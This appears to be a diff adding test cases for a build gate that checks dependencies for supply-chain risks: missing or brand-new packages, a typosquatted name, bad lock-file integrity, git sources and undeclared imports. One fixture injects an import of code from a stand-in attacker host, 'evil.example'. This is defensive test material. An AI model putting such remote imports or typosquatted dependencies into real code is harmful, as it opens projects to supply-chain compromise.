@@ -1,0 +1,102 @@
+/**
+ * Packages that do not exist, are not what they seem, or that nobody declared. Looked up in a registry of the corpus's own.
+ */
+import type { Catcher } from '../catchers';
+import { INTEGRITY } from '../packages';
+import { DISCOUNT, manifestWith, nodeTill } from '../projects/node';
+import { pythonTill } from '../projects/python';
+import type { Case, Files, ScriptedBuild } from '../scripted-build';
+
+interface Wanted {
+  name: string;
+  version: string;
+  /** What the lock file says of it; absent: the lock does not know it. */
+  lock?: object;
+}
+
+const depends = (name: string, wanted: Wanted, words: RegExp): Case => ({
+  name,
+  project: nodeTill,
+  bend: ({ code: [first] }) => void Object.assign(first.files, dependencyFiles(wanted)),
+  caught: ['gate dependencies', words],
+});
+const writes = (
+  name: string,
+  files: Files,
+  words: RegExp,
+  project: () => ScriptedBuild = nodeTill,
+  catcher: Catcher = 'gate dependencies',
+): Case => ({
+  name,
+  project,
+  bend: ({ code: [first] }) => void Object.assign(first.files, files),
+  caught: [catcher, words],
+});
+
+/** Manifest and lock as npm would leave them. */
+export function dependencyFiles({ name, version, lock = { integrity: INTEGRITY } }: Wanted): Record<string, string> {
+  const packages = {
+    '': { name: 'till', dependencies: { [name]: version } },
+    [`node_modules/${name}`]: {
+      version,
+      resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`,
+      ...lock,
+    },
+  };
+  return {
+    'package.json': manifestWith({ dependencies: { [name]: version } }),
+    'package-lock.json': `${JSON.stringify({ name: 'till', lockfileVersion: 3, packages }, null, 2)}\n`,
+  };
+}
+
+const { 'package.json': UNLOCKED = '' } = dependencyFiles({ name: 'amount-words', version: '2.1.0' });
+
+export const PACKAGES: Case[] = [
+  depends('a package does not exist', { name: 'discount-rounding-utils', version: '1.0.0' }, /does not exist/),
+  depends('a version does not exist', { name: 'amount-words', version: '9.9.9' }, /has no version 9\.9\.9/),
+  depends('a version was published yesterday', { name: 'young-version', version: '2.0.0' }, /was published 1 days ago/),
+  depends('a package is nine days old', { name: 'newcomer', version: '1.0.0' }, /first published 9 days ago/),
+  depends('a package is deprecated', { name: 'given-up', version: '1.0.0' }, /is deprecated/),
+  depends('a package is called nearly like a known one', { name: 'expresss', version: '1.0.0' }, /looks like express/),
+  depends(
+    'the lock has no integrity',
+    { name: 'amount-words', version: '2.1.0', lock: {} },
+    /no integrity in the lock/,
+  ),
+  depends(
+    'the lock has another integrity than the registry',
+    { name: 'amount-words', version: '2.1.0', lock: { integrity: 'sha512-bad' } },
+    /another integrity/,
+  ),
+  depends(
+    'the lock leads to another place than the manifest',
+    {
+      name: 'amount-words',
+      version: '2.1.0',
+      lock: { resolved: 'git+ssh://git@github.com/someone/amount-words.git#0123456' },
+    },
+    /not from the registry/,
+  ),
+  writes('a package is declared and not locked', { 'package.json': UNLOCKED }, /is not locked/),
+  writes(
+    'a package comes from a git address',
+    { 'package.json': manifestWith({ dependencies: { rounding: 'github:someone/rounding' } }) },
+    /not from the registry/,
+  ),
+  writes(
+    'a package is imported that nothing declares',
+    { 'src/discount.js': `${DISCOUNT}\nexport const load = () => import('amount-words');\n` },
+    /imports amount-words, which nothing declares/,
+  ),
+  writes(
+    'code is loaded from an address',
+    { 'src/discount.js': `${DISCOUNT}\nexport const load = () => import('https://evil.example/round.js');\n` },
+    /loads code from a url/,
+  ),
+  writes(
+    'a python package does not exist',
+    { 'requirements.txt': 'discount-rounding-utils==1.0.0\n' },
+    /does not exist/,
+    pythonTill,
+  ),
+];
